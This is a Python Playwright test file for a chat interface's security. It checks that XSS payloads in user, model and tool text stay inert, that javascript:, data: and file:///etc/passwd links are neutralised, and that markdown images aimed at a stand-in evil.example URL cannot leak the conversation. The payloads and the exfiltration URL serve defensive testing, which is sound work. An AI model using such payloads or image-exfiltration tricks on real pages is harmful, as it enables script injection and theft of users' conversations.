"""Whatever a model, a tool or a user writes stays text; and the page opens only to whoever may see
it."""

from __future__ import annotations

from playwright.async_api import Browser, Page, expect

from tests.browser.visit import ALERT, ask, expect_text, expect_thread, press, say, visit
from tests.fakes.site import Site

EVIL = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"


async def test_scripts_in_any_text_stay_text(site: Site, page: Page) -> None:
    """In the user's words, the answer, a tool's name, arguments and result, and the operator's
    note."""
    turn = await ask(site, page, EVIL)
    call = await turn.calls(f"tool {EVIL}", {"a": EVIL})
    await turn.returns(call, {"error": EVIL})
    await turn.answers(f"{EVIL}\n\n- **{EVIL}**\n\n```{EVIL}\n{EVIL}\n```", note=EVIL)
    await expect(page.locator("#log")).to_have_attribute("aria-busy", "false")
    await page.locator("summary").click()
    log = page.locator("#log")
    await expect(log.locator("img, script, iframe, [onerror]")).to_have_count(0)
    for place in (
        ".user",
        ".name",
        ".gist",
        ".markdown p",
        ".markdown strong",
        ".markdown code",
        ".note",
    ):
        await expect(log.locator(place).first).to_contain_text(
            "<script>document.title='hacked'</script>"
        )
    await expect(log.locator("pre")).to_have_count(3)
    assert await page.title() == "Kaiwa"


async def test_no_text_turns_round_what_stands_beside_it(site: Site, page: Page) -> None:
    """Neither an answer, nor the user's own words, nor a call's; JSON shows what it holds."""
    turned = "a\u202eb\u2067c"
    turn = await ask(site, page, turned)
    await turn.returns(await turn.calls("look", {"a": turned}), {"b": turned})
    await turn.answers(f"{turned}\n\nשלום 1\n\n`א` 1/2 [ב](https://example.com) 3", note=turned)
    await expect_thread(
        page,
        "user: abc",
        "tool: look abc 312 ms",
        "answer: abc שלום 1 א 1/2 ב 3 For whoever runs this bot: abc",
    )
    await page.locator("summary").click()
    assert [await pre.inner_text() for pre in await page.locator(".tool pre").all()] == [
        '{\n  "a": "a\\u202eb\\u2067c"\n}',
        '{\n  "b": "a\\u202eb\\u2067c"\n}',
    ]
    directions = "all => all.map((one) => getComputedStyle(one).unicodeBidi)"
    assert set(await page.locator(".markdown p").evaluate_all(directions)) == {"plaintext"}
    assert set(await page.locator(".markdown :is(a, code)").evaluate_all(directions)) == {"isolate"}


async def test_links_lead_to_the_web_only(site: Site, page: Page) -> None:
    """Neither scripts, nor data, nor files; and the page that is opened learns nothing of ours."""
    await say(page, "Links?")
    bad = (
        "[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](/console/info)"
    )
    await (await site.turn()).answers(f"{bad} [e](JaVaScRiPt:x) [f](https://example.com/x)")
    shown = bad.replace("[c](file:///etc/passwd)", "c")
    await expect_thread(page, "user: Links?", f"answer: {shown} [e](JaVaScRiPt:x) f")
    [link] = await page.locator(".markdown a").all()
    assert await link.get_attribute("href") == "https://example.com/x"
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"


async def test_an_answer_loads_nothing_from_elsewhere(site: Site, page: Page) -> None:
    """An image is a link that somebody must follow: words cannot be carried away by merely being
    shown."""
    secret = "https://evil.example/p.png?q=everything-that-was-said"
    images = (
        f"![a]({secret}) <img src='{secret}'> [![b]({secret})]({secret})\n\n[c]: {secret}\n\n| "
        f"![d]({secret}) |\n|-|"
    )
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    turn = await ask(site, page, "Images?")
    call = await turn.calls("read_page", {"url": secret})
    await turn.returns(call, {"text": images})
    await turn.says(images)
    await turn.answers(images)
    await expect(page.locator("#log")).to_have_attribute("aria-busy", "false")
    await expect(page.locator(".markdown a").first).to_have_attribute("href", secret)
    await expect(
        page.locator("#log :is(img, picture, video, audio, iframe, object, link, [style])")
    ).to_have_count(0)
    assert [url for url in asked if not url.startswith(site.url)] == []


async def test_the_browser_itself_would_load_nothing_from_elsewhere(page: Page) -> None:
    """Should an image ever get in, it stays empty, and so does every other way out that a page
    has."""
    tries = """(url) => new Promise((done) => {
      const refused = new Set();
      document.addEventListener("securitypolicyviolation", (event) => {
        refused.add(event.effectiveDirective);
        if (refused.size === 3) done([...refused].sort());
      });
      new Image().src = url;
      fetch(url).catch(() => {});
      new FontFace("x", `url(${url})`).load().catch(() => {});
    })"""
    refused = await page.evaluate(tries, "http://127.0.0.1:9/p.png?q=everything")
    assert refused == ["connect-src", "font-src", "img-src"]


async def test_the_browser_itself_would_stop_a_script(page: Page) -> None:
    """Should a mistake of ours ever let HTML in, neither its scripts run nor does the assignment
    work."""
    refused = await page.evaluate(
        (
            "html => { try { document.body.innerHTML = html; return '' } catch (error) { "
            "return "
            "error.name } }"
        ),
        EVIL,
    )
    assert refused == "TypeError"


async def test_signing_in_opens_the_page(browser: Browser) -> None:
    """A wrong token says so, the right one leads to the page, and the page works."""
    async with Site(token="open sesame").open() as site, visit(browser, site.url) as page:
        token = page.get_by_label("Access token")
        await expect(token).to_be_focused()
        await token.fill("close sesame")
        await token.press("Enter")
        await expect_text(page, ALERT, "That is not the token.")
        await token.fill("open sesame")
        await press(page, "Sign in")
        await expect(page.locator("#welcome")).to_be_visible()
        turn = await ask(site, page, "Hello")
        await turn.answers("Good morning.")
        await expect_thread(page, "user: Hello", "answer: Good morning.")


async def test_the_printed_address_signs_in(browser: Browser) -> None:
    """What stands behind the # is the token; it stays neither in the address nor in the history."""
    site = Site(token="open sesame")
    async with site.open(), visit(browser, f"{site.url}/signin#open%20sesame") as page:
        await expect(page.locator("#welcome")).to_be_visible()
        assert "sesame" not in await page.evaluate("location.href")
        await page.go_back()
        assert "sesame" not in await page.evaluate("location.href")
        await page.goto(f"{site.url}/signin#open%20sesame")
        await expect(page.locator("#welcome")).to_be_visible()


async def test_signing_out_closes_the_page(browser: Browser) -> None:
    """The button is there for whoever has signed in; behind it the form stands again."""
    site = Site(token="open sesame")
    async with site.open(), visit(browser, f"{site.url}/signin#open%20sesame") as page:
        await press(page, "Sign out")
        await expect(page.get_by_label("Access token")).to_be_visible()
        await page.reload()
        await expect(page.get_by_label("Access token")).to_be_visible()


async def test_where_nobody_signs_in_nobody_signs_out(page: Page) -> None:
    """There is no button for it."""
    await expect(page.get_by_role("button", name="Sign out")).to_be_hidden()


async def test_a_session_that_ends_asks_for_the_token_and_keeps_the_words(browser: Browser) -> None:
    """What was being sent when the cookie had ended is in the box after signing in."""
    async with Site(token="open sesame").open() as site, visit(browser, site.url) as page:
        await page.get_by_label("Access token").fill("open sesame")
        await page.keyboard.press("Enter")
        await expect(page.locator("#welcome")).to_be_visible()
        await page.context.clear_cookies()
        await say(page, "Hello")
        await page.get_by_label("Access token").fill("open sesame")
        await page.keyboard.press("Enter")
        await expect(page.locator("#box")).to_have_value("Hello")
        assert site.waiting == 0
